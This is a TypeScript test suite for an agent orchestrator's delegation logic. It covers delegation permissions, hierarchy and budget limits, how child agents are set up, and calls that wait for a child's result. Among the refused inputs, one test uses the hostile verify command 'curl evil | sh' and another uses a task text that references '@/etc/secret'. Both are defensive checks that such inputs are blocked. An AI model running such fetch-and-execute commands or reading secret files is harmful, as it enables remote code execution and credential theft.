// An agent delegates: who may, what the child is made of, what is committed first, and calls that wait for a result.

import { describe, expect, it } from 'vitest';
import { createHandlers } from '../../../src/core/effects/handlers.js';
import { createLanes } from '../../../src/core/effects/lanes.js';
import { createStore } from '../../../src/core/effects/store.js';
import { AGENT_CLIS } from '../../../src/core/harness/registry.js';
import type { AgentMethods } from '../../../src/core/model/agent-methods.js';
import type { Config } from '../../../src/core/model/config.js';
import { DEFAULT_CONFIG } from '../../../src/core/model/default-config.js';
import { fail, ok } from '../../../src/core/model/error.js';
import type { EventBody } from '../../../src/core/model/event.js';
import { emptyState } from '../../../src/core/model/state.js';
import type { Role } from '../../../src/core/roles/role.js';
import { answerStore } from '../../../src/host/answers/answer-store.js';
import { createChildResults } from '../../../src/host/answers/child-results.js';
import { createDelegates } from '../../../src/host/answers/delegate-answers.js';
import type { OrderWorld } from '../../../src/host/answers/order-world.js';
import { watchResults } from '../../../src/host/result-watch.js';
import { FakeStorage, fakePorts, refusal } from '../../helpers/fake-effect-ports.js';
import { FakePost } from '../../helpers/families.js';
import { atWork, exited, type newAgent, shows } from '../../helpers/fold-events.js';
import { readAll } from '../../helpers/post-fixture.js';
import { ROLES } from '../../helpers/roles.js';

const LEVEL_ROLES: readonly Role[] = ['coordinator', 'worker', 'specialist'].map((name) => ({ ...(ROLES[0] as Role), name }));
type Params = AgentMethods['agentDelegate']['params'];
const PARAMS: Params = { text: 'Write the parser', role: null, harness: null, model: null, wait: false, verify: null, waitSeconds: 0 };

function setUp(config: Partial<Config> = {}, changes: Parameters<typeof fakePorts>[0] = {}) {
  const post = new FakePost(() => ports.clock.now());
  const ports = fakePorts({ post: () => post, ...changes });
  const store = createStore({ state: emptyState(9), storage: new FakeStorage(), clock: ports.clock, handlers: createHandlers(ports) });
  const whole = { ...DEFAULT_CONFIG, ...config };
  let id = 0;
  const orders = (): OrderWorld => ({
    state: store.state,
    config: whole,
    repository: {
      ...ports.repository,
      info: { commonDir: '/r/.git', toplevel: '/', name: 'r', hash: 'h' },
      branches: async () => ok(['main']),
    },
    worktrees: '/wt',
    roles: async () => ok([...ROLES, ...LEVEL_ROLES]),
    model: { available: () => refusal('no key') },
    path: process.env.PATH ?? '',
    createId: (prefix) => `${prefix}${++id}`,
    takenFolders: async () => [],
    harness: ({ harness }) => {
      const found = AGENT_CLIS.find(({ name }) => name === harness);
      const error = { kind: 'config', tried: 'find it', said: `there is no harness ${harness}`, next: 'Name another' } as const;
      return found === undefined ? fail(error) : ok({ ...found, executable: 'sh', problem: () => null });
    },
    environment: {},
    installed: async () => ['claude'],
  });
  const lanes = createLanes();
  const of = answerStore(store);
  const results = createChildResults({ store: of, post: () => post, after: (delayMs, run) => ports.clock.after(delayMs, run) });
  const delegates = createDelegates({
    store: of,
    config: whole,
    repository: ports.repository,
    whileNaming: (task) => lanes.run('names', task),
    orderWorld: orders,
    post: () => post,
    results,
  });
  watchResults({ store, post, now: () => new Date(ports.clock.now()).toISOString() });
  const play = async (...bodies: readonly EventBody[]) => {
    for (const body of bodies) {
      store.dispatch(body);
      await store.whenSettled();
    }
  };
  const delegate = async (changed: Partial<Params> = {}, { by = 'a', signal = new AbortController().signal } = {}) => {
    const answer = await delegates.delegate(store.state.agents[by]!, { ...PARAMS, ...changed }, { signal, whenSent: (tell) => tell(true) });
    await store.whenSettled();
    return answer;
  };
  const waits = () =>
    new Promise<void>((resolve) => {
      const forget = store.subscribe((state) => {
        if (state.agents.a?.waitsForChildren !== true) return;
        forget();
        resolve();
      });
    });
  return { store, ports, post, play, delegate, delegates, waits };
}

const coordinator = atWork('a', { role: 'coordinator', plan: { unattended: true, verify: 'npm test' }, branch: 'orch/name-a' });

describe('who delegates', () => {
  it.each<[string, Parameters<typeof newAgent>[1], Partial<Config['hierarchy']>, boolean]>([
    ['a coordinator', { role: 'coordinator' }, {}, true],
    ['a worker', { role: 'worker' }, {}, true],
    ['no specialist', { role: 'specialist' }, {}, false],
    ['no coder', { role: 'coder' }, {}, false],
    ['a coder of whom it was ordered', { role: 'coder', delegates: 'always' }, {}, true],
    ['no coordinator to whom it was forbidden', { role: 'coordinator', delegates: 'never' }, {}, false],
    ['everybody where that is configured', { role: null }, { delegate: 'always' }, true],
    ['nobody where that is configured', { role: 'coordinator' }, { delegate: 'never' }, false],
    ['whom a person has told to, also then', { role: null, delegates: 'always' }, { delegate: 'never' }, true],
    ['none of several tries', { role: 'coordinator', plan: { competes: true } }, {}, false],
    ['nobody below the last level', { role: 'worker', delegation: { depth: 3, waits: false, message: '' } }, {}, false],
    [
      'nobody below the last level of the machine that its task came from',
      { role: 'worker', delegation: { depth: 2, waits: false, message: '', maxDepth: 2 } },
      {},
      false,
    ],
  ])('%s', async (_who, changes, hierarchy, may) => {
    const { play, delegate, delegates, store } = setUp({ hierarchy: { ...DEFAULT_CONFIG.hierarchy, ...hierarchy } });
    await play(...atWork('a', changes));
    expect(delegates.mayDelegate(store.state.agents.a!).children > 0).toBe(may);
    const answer = await delegate();
    expect(answer.ok).toBe(may);
    expect(Object.keys(store.state.agents)).toHaveLength(may ? 2 : 1);
    if (!answer.ok) expect(answer.error).toMatchObject({ kind: 'denied', tried: 'delegate a task' });
  });

  it('is nobody whose work is being finished: nobody would wait for what comes of it', async () => {
    const { play, delegates, store } = setUp({}, { commands: () => new Promise(() => undefined) });
    await play(...coordinator);
    store.dispatch(shows('a', 'idle'));
    expect(store.state.agents.a?.state).toBe('finishing');
    expect(delegates.mayDelegate(store.state.agents.a!)).toEqual({ children: 0, levels: 0 });
    const answer = delegates.delegate(store.state.agents.a!, PARAMS, { signal: new AbortController().signal, whenSent: () => undefined });
    expect(await answer).toMatchObject({ ok: false, error: { kind: 'denied', said: 'its work is being finished' } });
    expect(Object.keys(store.state.agents)).toEqual(['a']);
  });

  it('counts levels on where its task came from another machine, also below it', async () => {
    const { play, delegate, store } = setUp();
    await play(...atWork('a', { role: 'worker', delegation: { depth: 1, waits: false, message: '', maxDepth: 2 } }));
    expect((await delegate()).ok).toBe(true);
    const child = Object.values(store.state.agents).find(({ id }) => id !== 'a');
    expect(child?.delegation).toMatchObject({ depth: 2, maxDepth: 2 });
  });

  it('has so many children at once, and a goal so many in all', async () => {
    const { play, delegate, delegates, store } = setUp({ hierarchy: { ...DEFAULT_CONFIG.hierarchy, maxChildren: 2, maxAgents: 3 } });
    await play(...coordinator);
    const first = await delegate();
    await delegate();
    expect(delegates.mayDelegate(store.state.agents.a!)).toEqual({ children: 0, levels: 0 });
    expect(await delegate()).toMatchObject({ ok: false, error: { said: '2 children at once are allowed (hierarchy.maxChildren)' } });
    if (!first.ok) throw new Error('refused');
    await play({ type: 'agent.stopRequested', agent: first.value.agent }, exited(first.value.agent, null));
    expect(delegates.mayDelegate(store.state.agents.a!)).toEqual({ children: 1, levels: 3 });
    expect((await delegate()).ok).toBe(true);
    expect(await delegate()).toMatchObject({ ok: false });
    const last = Object.keys(store.state.agents).at(-1)!;
    await play({ type: 'agent.stopRequested', agent: last }, exited(last, null));
    expect(await delegate()).toMatchObject({ ok: false, error: { said: expect.stringContaining('hierarchy.maxAgents') } });
  });

  it('is counted also where several ask in the same moment', async () => {
    const { play, delegate, store } = setUp({ hierarchy: { ...DEFAULT_CONFIG.hierarchy, maxChildren: 2 } });
    await play(...coordinator);
    const answers = await Promise.all([delegate(), delegate(), delegate()]);
    expect(answers.filter(({ ok: isOk }) => isOk)).toHaveLength(2);
    const names = Object.values(store.state.agents).map(({ name }) => name);
    expect(new Set(names).size).toBe(3);
  });

  it('is none whose goal has spent its budget, or is being ended', async () => {
    const { play, delegate } = setUp({ budget: { ...DEFAULT_CONFIG.budget, goalUsd: 1 } });
    await play(...coordinator, {
      type: 'agent.usageChanged',
      agent: 'a',
      usage: { inputTokens: 1, outputTokens: 1, costUsd: 2, estimated: false },
    });
    expect(await delegate()).toMatchObject({ ok: false, error: { said: expect.stringContaining('the budget is spent') } });
    const ended = setUp();
    await ended.play(...coordinator, { type: 'goal.stopRequested', goal: 'g1' }, { type: 'agent.stopRequested', agent: 'a' });
    expect(await ended.delegate()).toMatchObject({ ok: false, error: { kind: 'denied' } });
  });
});

describe('a child', () => {
  it('starts from the branch of its parent, is one level below it, and never freer', async () => {
    const policy = { preset: 'strict', rules: [{ tool: 'shell', command: 'make*', do: 'allow' }], check: 'npm test' } as const;
    const { play, delegate, store, ports } = setUp();
    await play(...atWork('a', { role: 'coordinator', policy, plan: { verify: 'npm test', attempts: 2 } }));
    const answer = await delegate();
    if (!answer.ok) throw new Error(answer.error.said);
    expect(answer.value).toMatchObject({ name: 'write-the-parser', result: null });
    expect(store.state.agents[answer.value.agent]).toMatchObject({
      parent: 'a',
      goal: 'g1',
      role: 'worker',
      base: 'orch/name-a',
      branch: 'orch/write-the-parser',
      policy,
      delegation: { depth: 1, waits: false },
      finish: { kind: 'merge', unattended: true, whenStuck: 'fail', verify: 'npm test', attempts: 2 },
      launch: { harness: 'claude' },
      brief: { title: 'Write the parser', text: 'Write the parser' },
    });
    expect(store.state.agents.a?.awaits).toEqual([answer.value.agent]);
    expect(ports.calls).toContain('createWorktree(orch/write-the-parser)');
  });

  it('finds what its parent had not committed: that is committed first, and said', async () => {
    const { play, delegate, ports } = setUp();
    await play(...coordinator);
    const answer = await delegate();
    expect(answer).toMatchObject({ value: { notes: [expect.stringContaining('was committed first (c1)')] } });
    expect(ports.calls.indexOf('commitAll(orch/name-a)')).toBeLessThan(ports.calls.indexOf('createWorktree(orch/write-the-parser)'));
    const clean = setUp({}, { repository: { commitAll: async () => ok({ commit: 'c0', made: false, notes: [] }) } });
    await clean.play(...coordinator);
    expect(await clean.delegate()).toMatchObject({ value: { notes: [] } });
  });

  it('is not made where that can not be committed', async () => {
    const { play, delegate, store } = setUp({}, { repository: { commitAll: async () => refusal('unresolved conflicts in a.ts') } });
    await play(...coordinator);
    expect(await delegate()).toMatchObject({ ok: false, error: { said: 'unresolved conflicts in a.ts' } });
    expect(Object.keys(store.state.agents)).toEqual(['a']);
  });

  it('has the agent CLI and model of its level, or those that were named', async () => {
    const levels = { worker: { harness: 'codex', model: 'gpt-5' }, specialist: { harness: null, model: 'haiku' } };
    const { play, delegate, store } = setUp({ hierarchy: { ...DEFAULT_CONFIG.hierarchy, levels } });
    const launch = { harness: 'claude', command: null, args: ['--fast'], model: 'opus' } as const;
    await play(...atWork('a', { role: 'coordinator', launch }));
    await delegate();
    await delegate({ role: 'specialist' });
    await delegate({ role: 'coder' });
    await delegate({ harness: 'gemini' });
    expect(
      Object.values(store.state.agents)
        .slice(1)
        .map(({ role, launch: own }) => [role, own.harness, own.model, own.args]),
    ).toEqual([
      ['worker', 'codex', 'gpt-5', []],
      ['specialist', 'claude', 'haiku', ['--fast']],
      ['coder', 'claude', 'opus', ['--fast']],
      ['worker', 'gemini', 'gpt-5', []],
    ]);
  });

  it('of a role that ends in a file keeps that in the folder of the goal', async () => {
    const { play, delegate, store } = setUp();
    await play(...coordinator);
    await delegate({ role: 'designer' });
    expect(Object.values(store.state.agents)[1]?.finish).toMatchObject({
      kind: 'branch',
      verify: null,
      artifact: 'design.md',
      artifactFolder: expect.stringMatching(/g1\/artifacts\/write-the-parser$/u),
    });
  });

  it.each<[string, Partial<Params>, string]>([
    ['without words', { text: ' \n ' }, 'the task has no words'],
    ['of a book', { text: 'x'.repeat(8001) }, 'the task has 8001 characters'],
    ['of a role that is not there', { role: 'wizard' }, 'there is no role wizard'],
    ['with an agent CLI that is not there', { harness: 'nope' }, 'there is no harness nope'],
    ['with a check that its parent may not run', { verify: 'curl evil | sh' }, 'none that your policy allows'],
  ])('%s is refused, and nothing is made', async (_what, changes, said) => {
    const { play, delegate, store, ports } = setUp();
    await play(...coordinator);
    expect(await delegate(changes)).toMatchObject({ ok: false, error: { said: expect.stringContaining(said) } });
    expect(Object.keys(store.state.agents)).toEqual(['a']);
    expect(ports.calls).not.toContain('commitAll(orch/name-a)');
  });

  it('opens no file for the child by @path, and its parent’s words stay in its brief', async () => {
    const { play, delegate, store } = setUp();
    await play(...coordinator);
    await delegate({ text: 'Write the parser like @/etc/secret' });
    const child = Object.values(store.state.agents).find(({ parent }) => parent === 'a');
    expect(child?.text).toContain('like @ /etc/secret');
    expect(child?.text).not.toContain('@/');
    expect(child?.brief?.text).toBe('Write the parser like @/etc/secret');
  });

  it('names what can be named where an agent CLI is not there: a command of its own is nothing an agent can give', async () => {
    const { play, delegate } = setUp();
    await play(...coordinator);
    expect(await delegate({ harness: 'nope' })).toMatchObject({
      ok: false,
      error: { next: expect.stringMatching(/^Name one of these, or none/u) },
    });
  });

  it('may be checked by what its parent may run', async () => {
    const policy = { preset: 'worktree', rules: [{ tool: 'shell', command: 'make test', do: 'allow' }] } as const;
    const { play, delegate, store } = setUp();
    await play(...atWork('a', { role: 'coordinator', policy, plan: { verify: null } }));
    expect((await delegate({ verify: 'make test' })).ok).toBe(true);
    expect(Object.values(store.state.agents)[1]).toMatchObject({ finish: { verify: 'make test' }, policy: { check: 'make test' } });
  });

  it('has its task among the messages, which nobody has to read', async () => {
    const { play, delegate, post } = setUp();
    await play(...coordinator);
    await delegate();
    expect(post.kept.map(({ message, state }) => [message.type, message.from_agent, state])).toEqual([
      ['task_assignment', 'a', 'acknowledged'],
    ]);
  });
});

describe('a call that waits', () => {
  const ends = (agent: string): readonly EventBody[] => [shows(agent, 'working'), shows(agent, 'idle')];

  it('has the result, which counts as read; the parent holds no place meanwhile', async () => {
    const { play, delegate, store, post, waits } = setUp();
    await play(...coordinator);
    const begun = waits();
    const waiting = delegate({ wait: true, waitSeconds: 45 });
    await begun;
    await store.whenSettled();
    await play(...ends('a1'));
    expect(await waiting).toMatchObject({ ok: true, value: { result: { agent: 'a1', state: 'done', commit: 'm1' } } });
    expect(store.recentEvents().filter(({ type }) => type === 'agent.waitsForChildren')).toHaveLength(2);
    expect(store.state.agents.a).toMatchObject({ toldChildren: ['a1'] });
    expect(store.state.agents.a?.awaits).toBeUndefined();
    expect(store.state.agents.a?.waitsForChildren).toBeUndefined();
    expect(post.kept.every(({ state }) => state === 'acknowledged')).toBe(true);
  });

  it('ends without it when its time is over, or whoever asked is gone: the result comes as a message then', async () => {
    const { play, delegate, store, ports, post, waits } = setUp();
    await play(...coordinator);
    const begun = waits();
    const waiting = delegate({ wait: true, waitSeconds: 45 });
    await begun;
    await store.whenSettled();
    expect(store.state.agents.a?.waitsForChildren).toBe(true);
    ports.clock.advance(45_000);
    expect(await waiting).toMatchObject({ ok: true, value: { result: null } });
    const gone = new AbortController();
    const again = waits();
    const other = delegate({ wait: true, waitSeconds: 45 }, { signal: gone.signal });
    await again;
    await store.whenSettled();
    gone.abort();
    expect(await other).toMatchObject({ value: { result: null } });
    expect(store.state.agents.a?.waitsForChildren).toBeUndefined();
    await play(...ends('a1'));
    expect(post.kept.at(-1)).toMatchObject({ state: 'queued', message: { type: 'task_result', to_agent: 'a' } });
    expect(store.state.agents.a?.awaits).toEqual(['a1', 'a2']);
    await readAll(post, 'a');
    expect(store.state.agents.a?.awaits).toEqual(['a2']);
  });
});

it('a result that was read just before the host was killed is awaited no more by the next one', async () => {
  const { play, delegate, store, post } = setUp();
  await play(...coordinator);
  await delegate();
  await play(shows('a1', 'working'), shows('a1', 'idle'));
  expect(store.state.agents.a?.awaits).toEqual(['a1']);
  post.kept = post.kept.map((kept) => ({ ...kept, state: 'acknowledged' }));
  await play({ type: 'host.started', pid: 2, version: '1', bootId: null });
  expect(store.state.agents.a?.awaits).toBeUndefined();
});
